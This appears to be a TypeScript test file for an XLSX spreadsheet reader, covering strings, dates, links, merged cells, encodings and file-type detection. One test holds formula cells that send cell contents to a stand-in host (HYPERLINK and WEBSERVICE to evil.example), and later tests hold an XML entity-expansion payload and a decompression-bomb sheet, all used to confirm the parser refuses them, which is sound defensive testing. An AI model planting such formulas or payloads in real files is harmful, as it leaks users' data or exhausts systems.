import { deflateRawSync } from 'node:zlib';
import { zipSync } from 'fflate';
import {
  relationsXml,
  sheetXml,
  workbook,
  type CellValue,
  type RawCell,
} from '../../../../../../test/support/workbook.js';
import { open, openAll } from '../open.js';
import type { Cell, Opened } from '../opened.js';
import { isDateFormat } from './styles.js';
import { tablesInWorkbook } from './workbook.js';

const raw = (xml: string, t?: string, s?: number): RawCell => ({ xml, ...(t && { t }), ...(s !== undefined && { s }) });
const textsOf = (rows: readonly (readonly Cell[])[]) => rows.map((row) => row.map(({ text }) => text));
/** The texts of the first sheet's first row. */
const row = (cells: readonly CellValue[], extra: Parameters<typeof workbook>[1] = {}): string[] =>
  textsOf(tablesInWorkbook(workbook({ Sheet: sheetXml([cells]) }, extra))[0]!.rows)[0]!;

const STYLES = `<styleSheet><numFmts count="3"><numFmt numFmtId="170" formatCode="[$-409]mmm\\ d\\,\\ yyyy;@"/>
  <numFmt numFmtId="171" formatCode="#,##0.00\\ &quot;days&quot;"/><numFmt numFmtId="172" formatCode="[$CAD]\\ #,##0.00"/></numFmts>
  <cellStyleXfs><xf numFmtId="14"/></cellStyleXfs>
  <cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="170"/><xf numFmtId="171"/><xf numFmtId="172"/><xf numFmtId="22"/></cellXfs></styleSheet>`;
const styled = { parts: { 'xl/styles.xml': STYLES } };

describe('opening a workbook', () => {
  it('reads texts, shared ones and those with marks, numbers, what is true, and errors', () => {
    const strings = `<sst><si><t>shared</t></si><si><r><t>in </t></r><r><rPr><b/></rPr><t xml:space="preserve">parts </t></r><rPh sb="0" eb="1"><t>sound</t></rPh></si></sst>`;
    const cells = [
      raw('<v>0</v>', 's'),
      raw('<v>1</v>', 's'),
      raw('<v>7</v>', 's'),
      'inline & <kept>',
      81.01,
      raw('<v>81.010000000000005</v>'),
      true,
      raw('<v>#N/A</v>', 'e'),
      raw('<v>line_x000D_end</v>', 'str'),
      raw('<v><![CDATA[a<b]]></v>', 'str'),
    ];
    expect(row(cells, { parts: { 'xl/sharedStrings.xml': strings } })).toEqual([
      'shared',
      'in parts ',
      '',
      'inline & <kept>',
      '81.01',
      '81.01',
      'TRUE',
      '#N/A',
      'line\rend',
      'a<b',
    ]);
  });

  it('makes days of numbers whose style shows them, counted from 1900 or 1904, with their times', () => {
    const cells = [
      raw('<v>45718</v>', undefined, 1),
      raw('<v>45718.5868055556</v>', undefined, 2),
      raw('<v>45718</v>', undefined, 3),
      raw('<v>45718</v>', undefined, 4),
      raw('<v>45718</v>', undefined, 0),
      raw('<v>0.5</v>', undefined, 5),
      raw('<v>2025-03-02T14:05:00</v>', 'd'),
      raw('<v>59</v>', undefined, 1),
      raw('<v>61</v>', undefined, 1),
      raw('<v>-3</v>', undefined, 1),
    ];
    expect(row(cells, styled)).toEqual([
      '2025-03-02',
      '2025-03-02T14:05:00',
      '45718',
      '45718',
      '45718',
      '12:00:00',
      '2025-03-02T14:05:00',
      '1900-02-28',
      '1900-03-01',
      '-3',
    ]);
    const from1904 = { ...styled, properties: '<workbookPr date1904="1"/>' };
    expect(row([raw('<v>44256</v>', undefined, 1)], from1904)).toEqual(['2025-03-02']);
  });

  it.each([
    ['yyyy\\-mm\\-dd', true],
    ['[h]:mm', true],
    ['_-* #,##0.00\\ "€"_-;[Red]\\-* #,##0.00', false],
    ['General', false],
    ['0.00E+00', false],
    ['"Due "0', false],
    ['[$-F800]dddd, mmmm dd, yyyy', true],
  ])('tells of %s whether it shows a day', (code, isDate) => {
    expect(isDateFormat(code)).toBe(isDate);
  });

  it('tells a number that no sheet keeps whole as rounded, so that no order is named by it', () => {
    expect(row([200013111658219, raw('<v>67792491797239700000</v>'), raw('<v>5.55E-17</v>')])).toEqual([
      '200013111658219',
      '6.77924917972397E+19',
      '0',
    ]);
  });

  it('puts rows and cells where their places say, and counts on where they say none', () => {
    const xml =
      '<worksheet><sheetData><row r="2"><c r="B2"><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row><row r="900000"/></sheetData></worksheet>';
    const [table] = tablesInWorkbook(workbook({ Places: xml }));
    expect(textsOf(table!.rows)).toEqual([[], ['', '1', '2'], ['3']]);
  });

  it('keeps links, of cells and of formulas that write them out, and computes nothing', () => {
    const sheet = sheetXml(
      [
        ['Milk', 'Bread', 'Rice'],
        [
          raw('<f>HYPERLINK("https://www.walmart.com/ip/123","Milk")</f><v>Milk</v>', 'str'),
          raw('<f>HYPERLINK("https://evil.example/?"&amp;A2)</f><v>shown</v>', 'str'),
          raw('<f>WEBSERVICE("https://evil.example")</f>'),
        ],
      ],
      '<hyperlinks><hyperlink ref="A1:B1" r:id="rId1"/><hyperlink ref="C1" r:id="rId2"/><hyperlink ref="A1:ZZ999999" r:id="none"/></hyperlinks>',
    );
    const parts = {
      'xl/worksheets/_rels/sheet1.xml.rels': relationsXml([
        {
          id: 'rId1',
          type: 'hyperlink',
          target: 'https://www.walmart.com/ip/9?a=1&b=2',
          more: ' TargetMode="External"',
        },
        { id: 'rId2', type: 'hyperlink', target: '../other.xml' },
      ]),
    };
    const [table] = tablesInWorkbook(workbook({ Links: sheet }, { parts }));
    const item = 'https://www.walmart.com/ip/9?a=1&b=2';
    expect(table!.rows.map((cells) => cells.map(({ text, link }) => [text, link]))).toEqual([
      [
        ['Milk', item],
        ['Bread', item],
        ['Rice', null],
      ],
      [
        ['Milk', 'https://www.walmart.com/ip/123'],
        ['shown', null],
        ['', null],
      ],
    ]);
  });

  it('puts what was merged downwards into each of its rows', () => {
    const sheet = sheetXml(
      [
        ['200013100000001', 'Milk'],
        [null, 'Bread'],
        ['200013100000002', 'Rice'],
      ],
      '<mergeCells><mergeCell ref="A1:A2"/></mergeCells>',
    );
    expect(textsOf(tablesInWorkbook(workbook({ Merged: sheet }))[0]!.rows).map(([number]) => number)).toEqual([
      '200013100000001',
      '200013100000001',
      '200013100000002',
    ]);
  });

  it('reads parts in UTF-16, stored without compression, and elements with prefixes of their own', () => {
    const xml =
      '<x:worksheet xmlns:x="urn:a"><x:sheetData><x:row><x:c t="inlineStr"><x:is><x:t>Käse</x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]);
    const bytes = workbook({ A: sheetXml([['x']]) }, { parts: { 'xl/worksheets/sheet1.xml': utf16 } });
    expect(textsOf(tablesInWorkbook(bytes)[0]!.rows)).toEqual([['Käse']]);
    const stored = zipSync(
      { '[Content_Types].xml': Buffer.from('<Types/>'), 'xl/workbook.xml': Buffer.from('<document/>') },
      { level: 0 },
    );
    expect(() => tablesInWorkbook(stored)).toThrow(/no sheets/);
  });

  it('is told from a ZIP of files, may lie in one, and is told by its content alone', () => {
    const bytes = workbook({ Orders: sheetXml([['Order Number'], ['1']]) });
    expect(open({ name: 'orders.csv', bytes })).toMatchObject({ kind: 'tables', of: 'xlsx' });
    const zipped = zipSync({ 'a/orders.xlsx': bytes, 'b.csv': Buffer.from('a,b\n1,2') });
    const kinds = openAll({ name: null, bytes: zipped }).opened.map((one: Opened) => one.kind === 'tables' && one.of);
    expect(kinds.toSorted()).toEqual(['csv', 'xlsx']);
  });

  it('names what it does not read: other documents, old ones, protected ones, broken ones', () => {
    const old = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(600)]);
    expect(() => open({ name: 'a.xls', bytes: old })).toThrow(/old or a protected/);
    const ods = zipSync({
      mimetype: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'),
      'content.xml': Buffer.from('<a/>'),
    });
    expect(() => openAll({ name: 'a.ods', bytes: ods })).toThrow(/OpenDocument/);
    const whole = workbook({ A: sheetXml([['x']]) });
    expect(() => openAll({ name: null, bytes: whole.subarray(0, whole.length - 40) })).toThrow(/broken off/);
    const damaged = Uint8Array.from(whole);
    const sheet = Buffer.from(damaged).indexOf('sheet1.xml') + 'sheet1.xml'.length;
    damaged[sheet + 20]! ^= 0xff;
    expect(() => openAll({ name: null, bytes: damaged })).toThrow(/damaged|no XML/);
  });

  const TYPE = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>';
  it.each([
    [
      'declares entities',
      `${TYPE}<worksheet><sheetData><row><c t="str"><v>&b;</v></c></row></sheetData></worksheet>`,
      /entities/,
    ],
    [
      'names an entity that there is not',
      '<worksheet><sheetData><row><c><v>&nbsp;</v></c></row></sheetData></worksheet>',
      /no XML/,
    ],
    ['ends before its end', '<worksheet><sheetData><row>', /no XML/],
    ['is nested without an end', '<a>'.repeat(500), /nested/],
    ['has rows beyond all bounds', '<worksheet><row r="400000"><c><v>1</v></c></row></worksheet>', /300,000 rows/],
  ])('refuses a sheet that %s', (_what, xml, sentence) => {
    expect(() => tablesInWorkbook(workbook({ Bad: xml }))).toThrow(sentence);
  });

  it('notices what unpacks to too much before it is there, whatever it says of its size', () => {
    const text = `<worksheet><sheetData>${'<row><c><v>1</v></c></row>'.repeat(400_000)}</sheetData></worksheet>`;
    expect(text.length / deflateRawSync(text).length).toBeGreaterThan(100);
    expect(() => tablesInWorkbook(workbook({ A: text }))).toThrow(/unpacks/);
  });
});
